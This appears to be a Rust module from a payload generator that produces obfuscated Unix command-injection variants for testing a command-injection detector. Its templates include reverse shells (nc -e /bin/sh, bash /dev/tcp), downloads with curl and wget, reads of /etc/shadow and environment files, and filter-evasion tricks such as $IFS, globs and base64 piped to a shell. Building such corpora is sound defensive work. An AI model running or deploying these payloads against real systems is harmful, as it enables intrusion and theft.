//! `shell-unix`: Unix command injection. A variant is data that breaks into a command position
//! (separator or substitution) × a command built from parts (recon, file read, delay, download,
//! reverse shell, interpreter one-liner) × shell obfuscations applied the way attackers combine
//! them (quotes and backslashes inside words, `$IFS`, empty expansions, globs, brace lists,
//! `rev`, `$(echo ..)`, base64 pipes, `${PATH:0:1}`), then an optional transport encoding.

use crate::mutate;
use crate::{Carrier, Family, Rng, Variant};

pub struct ShellUnix;

/// A command as words before obfuscation.
struct Cmd {
    word: String,
    args: Vec<String>,
}

const FILES: &[&str] = &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/etc/issue", "/proc/self/environ", "/etc/hostname"];

fn host(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => format!("{}.{}.{}.{}", rng.range(1, 223), rng.below(256), rng.below(256), rng.range(1, 254)),
        1 => format!("{}.{}", word(rng, 4, 10), one(rng, &["com", "net", "io", "xyz", "oast.me", "burpcollaborator.net"])),
        _ => format!("{}.{}.{}", word(rng, 3, 8), word(rng, 3, 8), one(rng, &["com", "org", "ru"])),
    }
}

fn word(rng: &mut Rng, lo: usize, hi: usize) -> String {
    (0..rng.range(lo, hi)).map(|_| (b'a' + rng.below(26) as u8) as char).collect()
}

fn marker(rng: &mut Rng) -> String {
    (0..rng.range(5, 9)).map(|_| (b'A' + rng.below(26) as u8) as char).collect()
}

fn command(rng: &mut Rng) -> Cmd {
    let c = |w: &str, a: &[String]| Cmd { word: w.to_string(), args: a.to_vec() };
    let s = |x: &str| x.to_string();
    match rng.below(16) {
        0 => c(one(rng, &["id", "whoami", "uname", "ifconfig", "hostname", "pwd", "ps", "netstat", "uptime", "env"]), &[]),
        1 => c("uname", &[s(one(rng, &["-a", "-r", "-m", "-s", "-srm"]))]),
        2 => {
            let dir = one(rng, &["/", "/tmp", "/etc", "/var/www", "/home", "/root", "./", "../"]);
            c("ls", &[s(one(rng, &["-la", "-l", "-al", "-lah", "-R"])), s(dir)])
        }
        3 | 4 => {
            let tool = one(rng, &["cat", "head", "tail", "more", "less", "nl", "tac", "base64", "strings", "xxd"]);
            let mut args = Vec::new();
            if matches!(tool, "head" | "tail") && rng.chance(0.5) {
                args.push(s("-n"));
                args.push(rng.range(1, 50).to_string());
            }
            let file =
                if rng.chance(0.2) { format!("{}{}", "../".repeat(rng.range(1, 6)), &rng.pick(FILES)[1..]) } else { s(one(rng, FILES)) };
            args.push(file);
            c(tool, &args)
        }
        5 => c("sleep", &[rng.range(1, 30).to_string()]),
        6 => c(
            "ping",
            &[s(one(rng, &["-c", "-n", "-i"])), rng.range(1, 30).to_string(), if rng.chance(0.5) { s("127.0.0.1") } else { host(rng) }],
        ),
        7 => {
            let h = host(rng);
            let path = format!("/{}.{}", word(rng, 1, 8), one(rng, &["sh", "txt", "php", "py", "bin", "elf"]));
            match rng.below(4) {
                0 => c("curl", &[format!("http://{h}{path}")]),
                1 => c(
                    "curl",
                    &[
                        s(one(rng, &["-s", "-sSL", "-k", "-fsSL"])),
                        format!("https://{h}{path}"),
                        s("-o"),
                        format!("/tmp/{}", word(rng, 1, 6)),
                    ],
                ),
                2 => c("wget", &[format!("http://{h}{path}"), s("-O"), format!("/tmp/{}", word(rng, 1, 6))]),
                _ => c("wget", &[s(one(rng, &["-q", "-qO-", "--quiet"])), format!("{h}{path}")]),
            }
        }
        8 => c(one(rng, &["nslookup", "dig", "host"]), &[format!("{}.{}", marker(rng).to_lowercase(), host(rng))]),
        9 => {
            let (h, p) = (host(rng), rng.range(1024, 65535).to_string());
            match rng.below(3) {
                0 => c(one(rng, &["nc", "ncat", "netcat"]), &[s("-e"), s(one(rng, &["/bin/sh", "/bin/bash"])), h, p]),
                1 => c("nc", &[h, p, s("-e"), s("/bin/sh")]),
                _ => c("bash", &[s("-i"), s(">&"), format!("/dev/tcp/{h}/{p}"), s("0>&1")]),
            }
        }
        10 => {
            let inner = one(rng, &["id", "whoami", "uname -a", "cat /etc/passwd"]).to_string();
            match rng.below(3) {
                0 => c(one(rng, &["python", "python3"]), &[s("-c"), format!("'import os;os.system(\"{inner}\")'")]),
                1 => c("perl", &[s("-e"), format!("'system(\"{inner}\")'")]),
                _ => c("php", &[s("-r"), format!("'system(\"{inner}\");'")]),
            }
        }
        11 => c("echo", &[marker(rng)]),
        12 => c("echo", &[format!("{}$(({}+{}))", marker(rng), rng.below(100), rng.below(100))]),
        13 => c(one(rng, &["touch", "rm"]), &[s(one(rng, &["-f", "-rf"])), format!("/tmp/{}", word(rng, 3, 8))]),
        14 => c(
            "cat",
            &[format!(
                "{}.{}",
                one(rng, &["config", "wp-config", "settings", ".env", "db", "index"]),
                one(rng, &["php", "ini", "conf", "json", "sh", "py"])
            )],
        ),
        _ => c("sh", &[s("-c"), format!("'{}'", one(rng, &["id", "whoami", "uname -a"]))]),
    }
}

/// Letters of `w` with `ins` inserted between some of them (never before the first).
fn sprinkle(rng: &mut Rng, w: &str, ins: &str) -> String {
    let mut out = String::new();
    for (k, ch) in w.chars().enumerate() {
        if k > 0 && ch.is_ascii_alphanumeric() && rng.chance(0.5) {
            out.push_str(ins);
        }
        out.push(ch);
    }
    if out == w && w.len() > 1 {
        let mid = w.char_indices().nth(1).map_or(1, |(i, _)| i);
        return format!("{}{ins}{}", &w[..mid], &w[mid..]);
    }
    out
}

/// `/etc/passwd` → a glob that matches it (`/e??/p?ss??`, `/etc/pa*wd`, `/etc/[o-q]asswd`).
fn glob(rng: &mut Rng, path: &str) -> String {
    let parts: Vec<&str> = path.split('/').collect();
    let mut out: Vec<String> = Vec::new();
    for p in parts {
        if p.is_empty() || p == ".." {
            out.push(p.to_string());
            continue;
        }
        let q: String = match rng.below(3) {
            0 => p.chars().enumerate().map(|(k, ch)| if k > 0 && rng.chance(0.6) { '?' } else { ch }).collect(),
            1 if p.len() > 3 => format!("{}*{}", &p[..1], &p[p.len() - 1..]),
            _ => {
                let first = p.as_bytes()[0];
                let lo = first.saturating_sub(rng.below(3) as u8).max(b'a');
                let hi = (first + rng.below(3) as u8).min(b'z');
                format!("[{}-{}]{}", lo as char, hi as char, &p[1..])
            }
        };
        out.push(q);
    }
    out.join("/")
}

fn is_path(a: &str) -> bool {
    FILES.contains(&a)
}

impl Family for ShellUnix {
    fn name(&self) -> &'static str {
        "shell-unix"
    }

    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut cmd = command(rng);
        let mut names: Vec<&'static str> = Vec::new();
        let mut word = cmd.word.clone();
        if rng.chance(0.15) && !matches!(word.as_str(), "echo") {
            word = format!("{}{}", one(rng, &["/bin/", "/usr/bin/"]), word);
            names.push("abs-path");
        }
        // Word-level disguise.
        let mut var_prefix = String::new();
        if rng.chance(0.55) {
            match rng.below(11) {
                0 => {
                    let q = one(rng, &["''", "\"\""]);
                    word = sprinkle(rng, &word, q);
                    names.push("empty-quotes");
                }
                1 => {
                    // `c'a't`: a quoted run inside the word.
                    let q = if rng.chance(0.5) { '\'' } else { '"' };
                    let n = word.len();
                    if n >= 3 {
                        let (a, b) = (rng.range(1, n - 2), n - 1);
                        let b = rng.range(a + 1, b);
                        word = format!("{}{q}{}{q}{}", &word[..a], &word[a..b], &word[b..]);
                    } else {
                        word = format!("{q}{word}{q}");
                    }
                    names.push("quoted-run");
                }
                2 => {
                    word = sprinkle(rng, &word, "\\");
                    names.push("backslash");
                }
                3 => {
                    let e = one(rng, &["$@", "$*", "$9", "${9}", "$1"]);
                    word = sprinkle(rng, &word, e);
                    names.push("empty-expansion");
                }
                4 if !word.starts_with('/') => {
                    let k = rng.range(1, word.len().max(2) - 1).min(word.len());
                    if rng.chance(0.5) {
                        word = format!("{}$(echo {}){}", &word[..k], &word[k..], "");
                    } else {
                        word = format!("{}`echo {}`", &word[..k], &word[k..]);
                    }
                    names.push("echo-subst");
                }
                5 => {
                    let full = if word.starts_with('/') { word.clone() } else { format!("/bin/{word}") };
                    word = glob(rng, &full);
                    names.push("glob-command");
                }
                6 => {
                    word = sprinkle(rng, &word, "\\\n");
                    names.push("line-continuation");
                }
                7 if !word.starts_with('/') => {
                    // Bash ANSI-C quoting: `$'\x63\x61t'`, `$'\143at'`.
                    let octal = rng.chance(0.4);
                    let body: String = word
                        .chars()
                        .map(|ch| {
                            if rng.chance(0.7) {
                                if octal {
                                    format!("\\{:03o}", ch as u32)
                                } else {
                                    format!("\\x{:02x}", ch as u32)
                                }
                            } else {
                                ch.to_string()
                            }
                        })
                        .collect();
                    word = format!("$'{body}'");
                    names.push("ansi-c");
                }
                8 if !word.starts_with('/') => {
                    // `$(printf 'c\x61t')` as the command word.
                    let body: String =
                        word.chars().map(|ch| if rng.chance(0.5) { format!("\\x{:02x}", ch as u32) } else { ch.to_string() }).collect();
                    word = format!("$(printf '{body}')");
                    names.push("printf-subst");
                }
                9 if word.len() >= 2 && !word.starts_with('/') => {
                    // Split into variables: `a=c;b=at;$a$b ...`.
                    let k = rng.range(1, word.len());
                    let (x, y) = (one(rng, &["a", "x", "_", "v1"]), one(rng, &["b", "y", "__", "v2"]));
                    var_prefix = format!("{x}={};{y}={};", &word[..k], &word[k..]);
                    word = if rng.chance(0.5) { format!("${x}${y}") } else { format!("${{{x}}}${{{y}}}") };
                    names.push("var-concat");
                }
                _ => {
                    // An unset variable inside the word: `c${u}at`, `w${xyz}hoami` (braced: a
                    // bare `$u` before a letter would name a longer variable).
                    let e = one(rng, &["${u}", "${xyz}", "${__}", "${Z}", "${_x1}"]);
                    word = sprinkle(rng, &word, e);
                    names.push("unset-var");
                }
            }
        }
        // Argument-level disguise of a sensitive path.
        if let Some(k) = cmd.args.iter().position(|a| is_path(a)) {
            if rng.chance(0.5) {
                match rng.below(3) {
                    0 => {
                        cmd.args[k] = glob(rng, &cmd.args[k]);
                        names.push("glob-path");
                    }
                    1 => {
                        let rev: String = cmd.args[k].chars().rev().collect();
                        cmd.args[k] = format!("$(echo {rev} | rev)");
                        names.push("rev");
                    }
                    _ => {
                        let v = one(rng, &["${PATH:0:1}", "${HOME:0:1}", "${SHELL:0:1}"]);
                        cmd.args[k] = cmd.args[k].replace('/', v);
                        names.push("env-substring");
                    }
                }
            }
        }
        // `cat</etc/passwd`: the file as standard input, no space needed.
        if matches!(cmd.word.as_str(), "cat" | "head" | "tail" | "base64" | "nl" | "tac")
            && cmd.args.len() == 1
            && cmd.args[0].starts_with('/')
            && rng.chance(0.2)
        {
            let file = cmd.args.remove(0);
            word = format!("{word}<{file}");
            names.push("redirect-in");
        }
        // Joining words: spaces, `$IFS`, or a brace list.
        let simple_args = cmd.args.iter().all(|a| !a.contains([' ', '\'', '"', '>', '&', '{', '}', ',']));
        let mut line = if !cmd.args.is_empty() && simple_args && rng.chance(0.12) {
            names.push("brace");
            format!("{{{},{}}}", word, cmd.args.join(","))
        } else if !cmd.args.is_empty() && rng.chance(0.25) {
            let ifs = one(rng, &["${IFS}", "$IFS$9", "${IFS%??}", "$IFS"]);
            names.push("ifs");
            // Bare `$IFS` only before a byte that cannot continue a variable name.
            let mut line = word.clone();
            for a in &cmd.args {
                let glued = a.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
                line.push_str(if ifs == "$IFS" && glued { "${IFS}" } else { ifs });
                line.push_str(a);
            }
            line
        } else {
            std::iter::once(word.clone()).chain(cmd.args.iter().cloned()).collect::<Vec<_>>().join(one(rng, &[" ", " ", "  ", "\t"]))
        };
        line = format!("{var_prefix}{line}");
        if rng.chance(0.08) && line.len() <= 60 && !line.contains(['|', '\'', '"', '$', '`', '>', '<', '{', '&', ';', '\n', '\\']) {
            // Stored in a variable, then run by expanding it alone (`CMD=$'\x69d';$CMD`): the
            // command's words never stand where a command goes.
            let v = one(rng, &["CMD", "c", "x", "_a", "cmd1"]);
            line = if rng.chance(0.6) {
                let body: String = line
                    .chars()
                    .map(|ch| if ch != ' ' && rng.chance(0.7) { format!("\\x{:02x}", ch as u32) } else { ch.to_string() })
                    .collect();
                format!("{v}=$'{body}';${v}")
            } else {
                let (open, close) = if rng.chance(0.5) { ("${", "}") } else { ("$", "") };
                format!("{v}=\"{line}\";{open}{v}{close}")
            };
            names.push("stored-command");
        }
        if rng.chance(0.1) {
            let shell = one(rng, &["sh", "bash", "/bin/sh", "/bin/bash"]);
            line = format!("echo {} | base64 {} | {shell}", crate::mutate::base64(line.as_bytes()), one(rng, &["-d", "--decode"]));
            names.push("base64-pipe");
        }
        // Break into a command position.
        let prefix = match rng.below(6) {
            0 => String::new(),
            1 => rng.range(1, 9999).to_string(),
            2 => format!("{}.{}", word_of(rng), one(rng, &["txt", "jpg", "pdf"])),
            3 => "127.0.0.1".to_string(),
            4 => format!("{}'", word_of(rng)),
            _ => format!("{}\"", word_of(rng)),
        };
        let payload = match rng.below(10) {
            0 => format!("{prefix}$({line})"),
            1 => format!("{prefix}`{line}`"),
            k => {
                let sep = one(rng, &[";", "|", "||", "&&", "&", "\n", "; ", " | ", " && ", " ; "]);
                let suffix = one(rng, &["", "", ";", " #", "#", "|", " &", "'", "\"", ";#"]);
                let prefix = if k == 2 { String::new() } else { prefix };
                format!("{prefix}{sep}{line}{suffix}")
            }
        };
        let (payload, transport) = mutate::transport_layer(rng, &payload);
        names.push(transport);
        Variant { family: self.name(), mutation: mutate::join(&names), payload, carrier: Carrier::Value }
    }
}

fn word_of(rng: &mut Rng) -> String {
    word(rng, 3, 9)
}

/// One of `items`, uniformly.
fn one(rng: &mut Rng, items: &[&'static str]) -> &'static str {
    items[rng.below(items.len())]
}
